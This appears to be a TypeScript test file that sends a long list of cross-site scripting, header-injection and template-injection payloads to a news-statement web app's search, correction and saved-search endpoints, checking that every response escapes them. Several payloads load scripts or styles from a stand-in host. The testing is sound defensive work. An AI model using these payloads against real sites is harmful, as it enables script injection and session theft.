import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { articles, statements } from '../../../src/ledger/index.ts';
import { htmlPage, openDesk } from './example-desk.ts';
import type { TestDesk } from './example-desk.ts';
import { faultsIn } from './tree-faults.ts';

/*
 * What people write, tried with every class of attack that public lists of them have: in corrections, names, reasons, searches and names of saved searches.
 * Each answer is parsed as a browser does, and may hold no element, handler or address that the desk did not put there.
 */

const attacks: readonly string[] = [
  // Elements that run or load something, plain and in odd spellings.
  '<script>alert(1)</script>', '<ScRiPt >alert(1)</sCrIpT>', '<script/src=//evil.example/x.js></script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>',
  '<script\u0000>alert(1)</script>', '<img src=x onerror=alert(1)>', '<img src=x:x onerror\n=\nalert(1)>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img src="x` `<script>alert(1)</script>"` `>',
  '<image src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script xlink:href=data:,alert(1) />', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>', '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x',
  '<audio src=x onerror=alert(1)>', '<video poster=javascript:alert(1)//>', '<marquee onstart=alert(1)>', '<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>', '<applet code=x>', '<portal src=//evil.example>',
  '<frameset onload=alert(1)>', '<bgsound src=javascript:alert(1)>', '<isindex type=image src=1 onerror=alert(1)>', '<button formaction=javascript:alert(1)>x</button>', '<form id=t></form><button form=t formaction=javascript:alert(1)>x',
  '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<xss contenteditable autofocus onfocusin=alert(1)>x</xss>', '<details open ontoggle=alert(1)>', '<dialog open onclose=alert(1)><form method=dialog>',
  // Out of attributes, titles, fields, comments and data.
  '" autofocus onfocus=alert(1) x="', `' autofocus onfocus=alert(1) x='`, '` onmouseover=alert(1) `', '"><svg onload=alert(1)>', `'/><img src=x onerror=alert(1)>`, '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>', '</bdi></a><script>alert(1)</script>', '--><script>alert(1)</script><!--', '<![CDATA[<script>alert(1)</script>]]>', ']]><script>alert(1)</script>', '</script><script>alert(1)</script>', '<!--<script>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', `';alert(1);//`, `\\";alert(1);//`, '\u2028alert(1)\u2029', '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '#{7*7}', '<%= 7*7 %>',
  // Addresses that are scripts.
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', ' javascript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', '//evil.example/', '/\\evil.example',
  // Styles.
  '<style>@import "//evil.example/x.css";</style>', '<div style="background:url(javascript:alert(1))">', '<p style="width:expression(alert(1))">', '<link rel=stylesheet href=//evil.example/x.css>', '}body{background:url(//evil.example)}', '<style>*{x:expression(alert(1))}</style>',
  // What a parser mends until it runs.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src onerror=alert(1)>">', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>', '<table><td background="javascript:alert(1)">', '<a/href="j&Tab;avascript:alert(1)">x</a>', '<plaintext>', '<xmp><img src=x onerror=alert(1)></xmp>',
  // Encodings, headers, and what is not seen.
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#x3C;script&#x3E;alert(1)', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '%3Cscript%3Ealert(1)%3C/script%3E', '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E', 'x%0d%0aSet-Cookie:evil=1', 'x\r\nSet-Cookie: evil=1',
  '\u202Egnp.exe', '\u0000', '\uFEFF<script>alert(1)</script>', '\uD800', '<a href="/sign-in" ping="//evil.example">x</a>', '<meta http-equiv=refresh content="0;url=//evil.example/">', '<base href=//evil.example/>', '<?xml-stylesheet href="javascript:alert(1)"?>',
];

const pages = ['Orrin', 'Fennick', 'Lowmark'].map((town, number) => htmlPage(town, `<!doctype html><html lang="en"><head><title>Bridge of ${town} is safe</title>
<meta property="article:published_time" content="2026-05-0${number + 1}T08:00:00Z"></head><body><article><h1>Bridge of ${town} is safe, says mayor</h1>
<p>The mayor of ${town}, Mira Tolland, said on Monday that the bridge was safe. “Nobody need worry about it,” Tolland said. The council denied that it had cracks.</p></article></body></html>`));

let desk: TestDesk;
beforeAll(async () => { desk = await openDesk(pages); }, 300_000);
afterAll(async () => {
  expect(desk.faults).toEqual([]);
  await desk.close();
});

const at = (path: string): Promise<Response> => fetch(new URL(path, desk.url));
const expectSound = async (path: string): Promise<string> => {
  const answer = await at(path);
  expect(answer.headers.get('set-cookie') ?? '', path).not.toContain('evil');
  const body = await answer.text();
  expect(faultsIn(body), path).toEqual([]);
  return body;
};

/** A page's cookie and token. */
async function visit(path: string): Promise<{ cookie: string; token: string }> {
  const answer = await at(path);
  const [, token = ''] = /name="token" value="([^"]+)"/.exec(await answer.text()) ?? [];
  return { cookie: answer.headers.getSetCookie().map((line) => line.split(';')[0]!).join('; '), token };
}

describe('the check of an answer', () => {
  it.each(['<img src=x>', '<p onclick=x>', '<a href="javascript:alert(1)">', '<a href="//evil.example">', '<script>x</script>', '<style></style>', '<p style="x">', '<svg onload=x>', '<template><img></template>', '<meta http-equiv=refresh>'])('finds %s', (markup) => {
    expect(faultsIn(`<!doctype html><html><body>${markup}</body></html>`)).not.toEqual([]);
  });
});

describe('what people write', () => {
  it('is text in every question that can be asked', async () => {
    for (const attack of attacks) {
      const asked = encodeURIComponent(attack.replace(/\p{Surrogate}/gu, '\uFFFD').slice(0, 150));
      for (const path of [`/search?q=${asked}&speaker=${asked}`, `/statements?words=${asked}&outlet=${asked}&since=${asked}`, `/journal?who=${asked}`, `/sign-in?to=${asked}`, `/${asked}`, `/articles/${asked}`]) await expectSound(path);
    }
  }, 600_000);

  it('is text in corrections, names and reasons, wherever they are shown', async () => {
    const { rows } = await statements(desk.ledger, {}, { limit: 50 });
    const send = (body: unknown): Promise<Response> => fetch(new URL('api/v1/corrections', desk.url), { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
    const taken: number[] = [];
    for (const [index, attack] of attacks.entries()) {
      const name = attack.replace(/\p{Surrogate}/gu, '\uFFFD').slice(0, 100);
      const finding = rows[index % rows.length]!.id;
      const answer = await send({ kind: 'speaker', finding, speaker: { name, kind: 'person' }, who: name.trim() === '' ? 'x' : name, why: name.trim() === '' ? 'x' : name });
      taken.push(answer.status);
      expect([200, 400, 422], attack).toContain(answer.status);
      if (index % 12 === 0) for (const path of ['/journal', `/statements/${finding}`, `/statements/${finding}/speaker`, `/articles/${finding.split('/')[0]}`]) await expectSound(path);
    }
    expect(taken.filter((status) => status === 200).length).toBeGreaterThan(attacks.length * 0.9);
    const { rows: all } = await articles(desk.ledger);
    for (const { id } of all) await expectSound(`/articles/${id}`);
    for (const path of ['/', '/journal', '/parties', '/statements', '/claims', '/review', '/audit']) await expectSound(path);
    // The journal has all of them, as text.
    const { rows: entries } = await (await at('/api/v1/corrections?limit=200')).json() as { rows: { who: string }[] };
    expect(entries.map(({ who }) => who)).toEqual(expect.arrayContaining(['<script>alert(1)</script>', 'javascript:alert(1)']));
  }, 600_000);

  it('is text in names of saved searches', async () => {
    const { cookie, token } = await visit('/search?q=bridge');
    for (const attack of attacks) {
      const body = new URLSearchParams({ token, name: attack.replace(/\p{Surrogate}/gu, '\uFFFD'), path: `/search?q=${encodeURIComponent(attack.replace(/\p{Surrogate}/gu, '\uFFFD')).replaceAll(/[!'()]/g, '')}` });
      await fetch(new URL('/saved', desk.url), { method: 'POST', headers: { cookie }, body, redirect: 'manual' });
    }
    const body = await expectSound('/');
    expect(body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  }, 120_000);

  it('ends neither linked data nor feeds', async () => {
    for (const { id } of (await articles(desk.ledger)).rows) {
      const body = await (await at(`/articles/${id}`)).text();
      for (const [, block] of body.matchAll(/<script type="application\/ld\+json">([^<]*)<\/script>/g)) expect(() => JSON.parse(block!) as unknown).not.toThrow();
    }
    for (const attack of attacks) {
      const asked = encodeURIComponent(attack.replace(/\p{Surrogate}/gu, '\uFFFD').slice(0, 150));
      const atom = await (await at(`/feeds/search.atom?q=${asked}`)).text();
      expect(atom.replace(/<!\[CDATA\[[^]*?\]\]>/g, ''), attack).not.toMatch(/<(?:script|img|svg|style|iframe)\b/i);
      expect(() => JSON.parse(atom.startsWith('{') ? atom : '{}') as unknown, attack).not.toThrow();
    }
  }, 300_000);
});
